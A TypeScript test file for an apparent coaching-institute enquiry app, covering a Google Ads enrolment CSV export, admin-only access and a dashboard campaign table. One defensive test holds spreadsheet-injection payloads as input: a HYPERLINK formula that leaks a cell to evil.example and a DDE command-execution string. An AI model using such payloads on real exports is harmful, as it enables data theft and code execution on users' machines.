/**
 * What the ads' figures on the desk say, through HTTP on a real database (SQLite and
 * PostgreSQL): the Google Ads export of enrolments from a Google click, and the dashboard's
 * campaign table (enquiries, visits, enrolments, fees).
 */
import { rmSync } from 'node:fs';
import type { FastifyInstance } from 'fastify';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { makeClientDir } from '../../../tests/support/client-dir';
import { enginesUnderTest } from '../../../tests/support/databases';
import { phoneStandIn } from '../../../tests/support/phone-codes';
import { buildApp } from '../../app';
import { loadConfig } from '../../config';
import type { Db } from '../../db/database';
import { createStaffRepository } from '../../db/staff-repository';
import { hashPassword, TEST_ONLY_COST } from '../../staff/passwords';
import { startingFacts } from '../../../src/content/server-words';

const ORIGIN = 'http://localhost:80';
const PASSWORD = 'correct horse battery';
let passwordHash: string;
beforeAll(async () => {
  passwordHash = await hashPassword(PASSWORD, TEST_ONLY_COST);
});

const EXPORT = '/api/staff/exports/google-ads';

describe.each(enginesUnderTest())('the ads on the desk on $name', ({ open }) => {
  const phones = phoneStandIn();
  let database: Db;
  let clientDir: string;
  let app: FastifyInstance;
  let counsellor: string;
  let admin: string;

  const get = (url: string, cookie?: string) =>
    app.inject({ method: 'GET', url, headers: { origin: ORIGIN, ...(cookie ? { cookie } : {}) } });
  const signIn = async (email: string) => {
    const res = await app.inject({
      method: 'POST',
      url: '/api/staff/session',
      headers: { origin: ORIGIN },
      payload: { email, password: PASSWORD },
    });
    return `desk_session=${res.cookies.find((c) => c.name === 'desk_session')?.value}`;
  };
  let phone = 9000001000;
  const enquire = async (course: string, attribution: Record<string, string> = {}, extra: object = {}) => {
    phone += 1;
    const res = await app.inject({
      method: 'POST',
      url: '/api/enquiries',
      payload: {
        studentName: 'Asha Verma',
        phone: String(phone),
        classLevel: '12',
        course,
        city: 'Jaipur',
        consent: true,
        attribution,
        ...extra,
      },
    });
    expect(res.statusCode).toBe(201);
    return res.json<{ id: string }>().id;
  };
  const setStatus = async (id: string, status: string) => {
    const { version } = await database.db
      .selectFrom('enquiries')
      .select('version')
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    const res = await app.inject({
      method: 'PATCH',
      url: `/api/staff/enquiries/${id}`,
      headers: { origin: ORIGIN, cookie: counsellor },
      payload: { version, status },
    });
    expect(res.statusCode).toBe(200);
  };
  const phoneOf = async (id: string) =>
    (await database.db.selectFrom('enquiries').select('phone').where('id', '=', id).executeTakeFirstOrThrow()).phone;
  /** Says when the enquiry was first enrolled, as its audit trail has it. */
  const enrolledAt = (id: string, at: string) =>
    database.db
      .updateTable('audit_log')
      .set({ at })
      .where('enquiry_id', '=', id)
      .where('field', '=', 'status')
      .where('to_value', '=', 'enrolled')
      .execute();

  beforeEach(async () => {
    database = await open();
    clientDir = makeClientDir();
    const config = loadConfig({
      NODE_ENV: 'test',
      STAFF_PASSWORD_COST: 'test',
      LOG_LEVEL: 'silent',
      ENQUIRY_RATE_LIMIT: '1000',
      GOOGLE_ADS_CONVERSION_NAME: 'Enrolment (desk)',
    });
    app = await buildApp({ config, clientDir, database, deliveryWorker: false, codeSender: phones });
    const staff = createStaffRepository(database);
    await staff.add({ email: 'c@example.com', name: 'Chitra', role: 'counsellor', passwordHash });
    await staff.add({ email: 'a@example.com', name: 'Anil', role: 'admin', passwordHash });
    counsellor = await signIn('c@example.com');
    admin = await signIn('a@example.com');
  });
  afterEach(async () => {
    await app.close();
    await database.close();
    rmSync(clientDir, { recursive: true, force: true });
  });

  it("exports enrolments from a Google click as Google Ads' import reads them, India time, the course's fee", async () => {
    const neet = await enquire('neet-year-long', { utmSource: 'google', gclid: 'Cj0KCQiA-first_click' });
    const jee = await enquire('jee', { utmSource: 'google', gclid: 'EAIaIQobChMI-second' });
    const noClick = await enquire('jee', { utmSource: 'facebook', fbclid: 'IwAR0abcDEF' });
    const notEnrolled = await enquire('jee', { gclid: 'Cj0KCQiA-only-visited' });
    const declined = await enquire('jee', { gclid: 'Cj0KCQiA-declined' }, { trackingConsent: 'denied' });
    const child = await enquire(
      'foundation',
      { gclid: 'Cj0KCQiA-child' },
      { enquirer: 'student', studentUnder18: true, parentName: 'Rekha Verma', parentPhone: '9000009999' },
    );
    // A class 9 student is a child, box ticked or not.
    const classNine = await enquire(
      'foundation',
      { gclid: 'Cj0KCQiA-class-nine' },
      { enquirer: 'student', classLevel: '9' },
    );
    for (const id of [neet, jee, noClick, declined, child, classNine]) await setStatus(id, 'enrolled');
    await setStatus(notEnrolled, 'visit-booked');
    // Enrolled on 20 November at 15:04:05 India time (09:34:05 UTC), and just after midnight on the 22nd there.
    await enrolledAt(jee, '2026-11-21T18:30:00.000Z');
    await enrolledAt(neet, '2026-11-20T09:34:05.000Z');

    const res = await get(EXPORT, admin);
    expect(res.statusCode).toBe(200);
    // Each course's fee as the starting content states it (no version is published here).
    const feeOf = (course: string) => startingFacts[course]?.fee;
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="google-ads-enrolments-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.body).toBe(
      [
        'Parameters:TimeZone=Asia/Kolkata',
        'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency',
        `Cj0KCQiA-first_click,Enrolment (desk),2026-11-20 15:04:05,${feeOf('neet-year-long')},INR`,
        `EAIaIQobChMI-second,Enrolment (desk),2026-11-22 00:00:00,${feeOf('jee')},INR`,
        '',
      ].join('\r\n'),
    );
    // India's days, both included.
    // The first family asks again from another Google ad, its number proved, and is enrolled again on
    // its new record: still one.
    const familyPhone = await phoneOf(neet);
    const back = await enquire(
      'jee',
      { utmSource: 'google', gclid: 'Cj0KCQiA-came-back' },
      { phone: familyPhone, numberProof: await phones.prove(app, familyPhone) },
    );
    await setStatus(back, 'contacted');
    await setStatus(back, 'enrolled');
    expect((await get(EXPORT, admin)).body.split('\r\n').slice(2, -1)).toEqual([
      `Cj0KCQiA-first_click,Enrolment (desk),2026-11-20 15:04:05,${feeOf('neet-year-long')},INR`,
      `EAIaIQobChMI-second,Enrolment (desk),2026-11-22 00:00:00,${feeOf('jee')},INR`,
    ]);

    const lines = async (query: string) => (await get(`${EXPORT}${query}`, admin)).body.trim().split('\r\n').slice(2);
    expect(await lines('?from=2026-11-21&to=2026-11-22')).toEqual([
      `EAIaIQobChMI-second,Enrolment (desk),2026-11-22 00:00:00,${feeOf('jee')},INR`,
    ]);
    expect(await lines('?to=2026-11-21')).toEqual([
      `Cj0KCQiA-first_click,Enrolment (desk),2026-11-20 15:04:05,${feeOf('neet-year-long')},INR`,
    ]);
    expect((await get(`${EXPORT}?from=yesterday`, admin)).statusCode).toBe(400);

    const trail = await database.db
      .selectFrom('audit_log')
      .select(['action', 'field', 'to_value'])
      .where('action', '=', 'export')
      .execute();
    expect(trail).toContainEqual({ action: 'export', field: 'google-ads', to_value: '2' });
  });

  it('keeps no click id that is a formula, from the form or from the page a form was posted from; an old one leaves as text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&B3,"Click to verify")';
    const fromForm = await enquire('jee', { gclid: formula, utmSource: 'google' });
    const fromLink = await app.inject({
      method: 'POST',
      url: '/api/enquiries',
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        host: 'localhost:80',
        referer: `http://localhost:80/courses/jee?gclid=${encodeURIComponent("=cmd|' /C calc'!A0")}&fbclid=%40SUM(1%2B1)`,
      },
      payload: new URLSearchParams({
        studentName: 'Ravi Verma',
        phone: '9000002001',
        classLevel: '12',
        course: 'jee',
        consent: 'true',
      }).toString(),
    });
    expect(fromLink.statusCode).toBe(303);
    const stored = await database.db
      .selectFrom('enquiries')
      .select(['gclid', 'fbclid', 'utm_source', 'landing_page'])
      .orderBy('created_at')
      .execute();
    // The enquiries are kept, and what else their visits said; only the false click ids are not.
    expect(stored).toEqual([
      { gclid: null, fbclid: null, utm_source: 'google', landing_page: null },
      { gclid: null, fbclid: null, utm_source: null, landing_page: '/courses/jee' },
    ]);

    // One stored before click ids were checked still reaches the file as text, not as a formula.
    await database.db.updateTable('enquiries').set({ gclid: '+1+1' }).where('id', '=', fromForm).execute();
    await setStatus(fromForm, 'enrolled');
    const lines = (await get(EXPORT, admin)).body.split('\r\n');
    expect(lines[2]).toMatch(/^'\+1\+1,Enrolment \(desk\),/);
  });

  it('is for admins: a counsellor is refused (403), nobody signed in too (401)', async () => {
    expect((await get(EXPORT)).statusCode).toBe(401);
    const refused = await get(EXPORT, counsellor);
    expect(refused.statusCode).toBe(403);
    expect(refused.body).not.toContain('Google Click ID');
    // An admin's HEAD: the headers, nothing read, nothing in the trail.
    const head = await app.inject({ method: 'HEAD', url: EXPORT, headers: { origin: ORIGIN, cookie: admin } });
    expect(head.statusCode).toBe(200);
    expect(head.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(await database.db.selectFrom('audit_log').select('id').where('action', '=', 'export').execute()).toEqual([]);
  });

  it("the campaign table: enquiries, visits (booked or since enrolled), enrolments and their courses' fees", async () => {
    const spring = { utmSource: 'facebook', utmCampaign: 'neet-2027-jaipur' };
    const search = { utmSource: 'google', utmCampaign: 'jee-search' };
    const a = await enquire('neet-year-long', spring);
    const b = await enquire('neet-repeaters', spring);
    const c = await enquire('neet-year-long', spring);
    await enquire('neet-year-long', spring);
    const d = await enquire('jee', search);
    const e = await enquire('jee', search);
    const f = await enquire('foundation');
    await setStatus(a, 'enrolled');
    await setStatus(b, 'enrolled');
    await setStatus(c, 'visit-booked');
    await setStatus(d, 'visit-booked');
    await setStatus(e, 'contacted');
    await setStatus(f, 'enrolled');

    const res = await get('/api/staff/dashboard', counsellor);
    expect(res.statusCode).toBe(200);
    const { byCampaign, bySource } = res.json<{ byCampaign: unknown[]; bySource: unknown[] }>();
    expect(byCampaign).toEqual([
      // 68,000 + 110,000: the two courses' fees in the starting content.
      { value: 'neet-2027-jaipur · facebook', count: 4, visits: 3, enrolled: 2, fees: 178000 },
      { value: 'jee-search · google', count: 2, visits: 1, enrolled: 0, fees: 0 },
      { value: null, count: 1, visits: 1, enrolled: 1, fees: 45000 },
    ]);
    expect(bySource).toEqual([
      { value: 'facebook', count: 4, visits: 3, enrolled: 2, fees: 178000 },
      { value: 'google', count: 2, visits: 1, enrolled: 0, fees: 0 },
      { value: null, count: 1, visits: 1, enrolled: 1, fees: 45000 },
    ]);
  });
});
